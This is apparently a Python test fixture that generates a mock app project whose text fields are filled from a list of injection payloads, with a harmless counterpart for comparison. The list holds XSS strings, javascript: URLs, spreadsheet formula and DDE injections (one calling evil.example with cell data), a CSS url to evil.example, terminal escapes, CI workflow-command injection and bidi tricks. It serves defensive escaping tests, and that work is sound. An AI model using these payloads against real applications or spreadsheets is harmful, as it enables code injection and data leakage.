"""A project in which every text that people can choose is hostile, and the same project with harmless texts.

Every text holds a mark, `k` and a number, by which it is found in whatever is written. The text is told
from the mark, so that a reader can say whether it came through whole.
"""

import json
import re
import urllib.parse

# What a browser, a spreadsheet, a terminal, a build log, Graphviz or Swift might take for its own.
PAYLOADS = [
    "plain MARK",
    "\"><script>window.__hit=1</script>MARK",
    "</script><script>window.__hit=2</script>MARK",
    "</title></style><img src=x onerror=window.__hit=3>MARK",
    "<!--<script>MARK",
    "]]>-->MARK<![CDATA[",
    "' onmouseover='window.__hit=4' MARK",
    "\" onload=\"window.__hit=5\" MARK",
    "javascript:window.__hit=6//MARK",
    "`$(window.__hit=7)` MARK $HOME",
    "&lt;b&gt;&#60;&amp;MARK&quot;",
    "=HYPERLINK(\"https://evil.example/\"&A1,\"MARK\")",
    "+1+cmd|' /C calc'!MARK",
    "-1-MARK",
    "@SUM(MARK)",
    "\t=1+MARK",
    "\r=1+MARK",
    "  =1+MARK",
    "MARK;=1+1;@x",
    "MARK,+1\n=2",
    "\"=MARK\"",
    "\uff1d1+MARK",
    "\x1b[2J\x1b[31mMARK\x1b[0m",
    "\x1b]0;MARK\x07\x1b\\",
    "\x9b2JMARK\x85\x90\x9c",
    "\x08\x08\x7fMARK\x0b\x0c\x0e",
    "\x00MARK\x00",
    "\u2028MARK\u2029",
    "\u202egpj.MARK\u202c\u2066\u2069\u200f",
    "\ufeffMARK\u200b\u00ad\u2060\u180e",
    "\U000e0041\U000e0001MARK\ufff9\ufffb",
    "::error file=a,line=1::MARK",
    "\n::error::MARK",
    "%0A::warning::MARK%",
    "MARK,title=x:y",
    "\\N\\G\"];MARK [label=\\",
    "<b>MARK</b>",
    "end\"] --> MARK; click n0 \"javascript:window.__hit=8\"",
    "*/ body { display: none } /* MARK",
    "MARK;}*{background:url(https://evil.example/MARK)}",
    "\\(window.hit)\"\"\"MARK#\"",
    "{0} [MARK](https://evil.example) {x}",
    "__proto__MARK",
    "class", "1a", "self", "Self", "init", "Type", "Route", "1-a",
    "ünïcode-MARK", "ΜARK-ﬁ-\u0301MARK", "👩‍👩‍👧🙂MARK", "日本MARK", "שלום MARK", "سلام MARK",
    "MARK" + "w" * 700,
]  # fmt: skip

MARK = re.compile(r"k\d{4}k")


class Texts:
    """Hands out texts, each with a mark of its own, and knows which they were."""

    def __init__(self, is_hostile):
        self.is_hostile = is_hostile
        self.by_mark = {}
        # What a mark stands for: `id`, `text`, …
        self.kinds = {}

    def make(self, kind, number, without=""):
        """A text of a kind; characters that the place cannot hold are left out of it."""
        payload = PAYLOADS[number % len(PAYLOADS)]
        mark = f"k{len(self.by_mark):04}k"
        text = "".join(c for c in payload.replace("MARK", mark) if c not in without)
        if not self.is_hostile:
            text = harmless(text)
        if mark in text:
            self.by_mark[mark] = text
            self.kinds[mark] = kind
        else:
            # A reserved word has no room for a mark.
            self.by_mark[mark] = None
        return text

    def file(self, kind, number, extension):
        """The same as a name that a file system takes, different from all others whatever the case."""
        text = self.make(kind, number, without="/\0")
        while len(text.encode()) > 240:
            text = text[:-1]
        self.by_mark.update((mark, text) for mark in MARK.findall(text))
        return f"{text}{number}.{extension}"


def harmless(text):
    """A text of letters with as many words and lines."""
    return re.sub(r"[^\w\n ]|_", "x", text).strip(" ") or "x"


def template(text):
    """A text as a file writes it, where `${` would begin a parameter."""
    return text.replace("${", "$${")


def write(folder, is_hostile):
    """Writes the project; returns its texts, and what commands have to know of it."""
    texts = Texts(is_hostile)
    make = texts.make
    count = len(PAYLOADS)
    shared = {
        "devices": [make("device", n) for n in range(0, count, 5)],
        "transitions": [make("transition", n) for n in range(count)],
        "screens": [make("screen", n) for n in range(count)],
        "tabs": [make("tab", n) for n in range(3, 8)],
        "parameters": [make("parameter", n, without="{}$") for n in range(count)],
        "files": [texts.file("file", n, "json") for n in range(count)],
    }
    pictures = [texts.file("picture", n, "png") for n in range(count)]
    heroes = [make("hero", n) for n in range(count)]

    def put(name, value):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(value, ensure_ascii=False), encoding="utf-8")

    for name in pictures:
        (folder / "assets").mkdir(parents=True, exist_ok=True)
        (folder / "assets" / name).write_bytes(PNG)
    put("segue.json", {
        "app": make("app", 1),
        "schemes": ["shop"], "hosts": ["shop.example"],
        "devices": [{"name": name, "width": 320, "height": 640, "scale": 2}
                    for name in shared["devices"]],
        "transitions": {name: {"kind": "hero", "duration": 0.1} for name in shared["transitions"]},
        "navigation": {"tabs": [
            {"id": name, "title": make("tab title", n), "root": f"shop://s{n}"}
            for n, name in enumerate(shared["tabs"])]},
    })  # fmt: skip
    ids = {}
    for n in range(count):
        following = (n + 1) % count
        value = make("argument", n)
        address = f"shop://s{following}?{quoted(shared['parameters'][following])}={quoted(value)}"
        card = make("id", n, without="/")
        ids[n] = card
        line = {"whiteSpace": "nowrap", "width": 200, "maxLines": 1,
                "fontFamily": "'" + template(make("font", n, without="'")) + "', serif"}  # fmt: skip
        put(f"screens/{shared['files'][n]}", {
            "screen": shared["screens"][n], "route": f"/s{n}", "title": make("title", n),
            "parameters": {shared["parameters"][n]: {
                "type": "string", "default": make("default", n)}},
            "root": {"type": "layout", "children": [
                {"type": "layout", "id": card, "accessibilityLabel": template(make("label", n)),
                 "style": {"width": 300, "height": 200, "backgroundColor": "#eee"},
                 "events": {"tap": [
                     {"type": "navigate", "to": template(address),
                      "transition": template(shared["transitions"][n])},
                     {"type": "track", "event": template(make("event", n)),
                      "properties": {"kind": template(make("property", n))}},
                     {"type": "custom", "name": template(make("custom", n))},
                     {"type": "open", "url": template("javascript:" + make("url", n))}]},
                 "children": [
                     {"type": "image", "source": template(pictures[n]), "hero": template(heroes[n]),
                      "id": template(make("picture id", n + 1, without="/")), "style": {"width": 50, "height": 50},
                      "accessibilityLabel": template(make("alt", n))},
                     {"type": "label", "id": template(make("label id", n + 2, without="/")), "style": line,
                      "text": template(make("text", n))},
                     {"type": "button", "title": template(make("button", n)), "style": {"width": 200}},
                 ]},
                {"type": "label", "text": "${" + shared["parameters"][n] + "}", "style": line},
                {"type": "image", "source": template(pictures[n - 1]),
                 "hero": template(heroes[n - 1]),
                 "id": template(make("picture id", n + 3, without="/")),
                 "style": {"width": 80, "height": 80}},
            ]},
        })  # fmt: skip
    # One flight of many layers: each a hero of its own on both screens.
    for place in range(2):
        put(f"screens/all{place}.json", {
            "screen": f"all{place}", "route": f"/all{place}",
            "root": {"type": "layout", "children": [
                {"type": "layout", "id": "card", "events": {"tap": [] if place else [
                    {"type": "navigate", "to": "shop://all1",
                     "transition": template(shared["transitions"][1])}]},
                 "children": [
                     {"type": "image", "source": template(pictures[n]), "hero": template(heroes[n]),
                      "id": template(make("layer", n, without="/")),
                      "style": {"width": 20 + 10 * place, "height": 5 + place}}
                     for n in range(count)]}]},
        })  # fmt: skip
    return texts, shared | {"ids": ids}


def quoted(text):
    return urllib.parse.quote(text, safe="")


# A picture of one pixel.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f64540"
    "0000000049454e44ae426082")
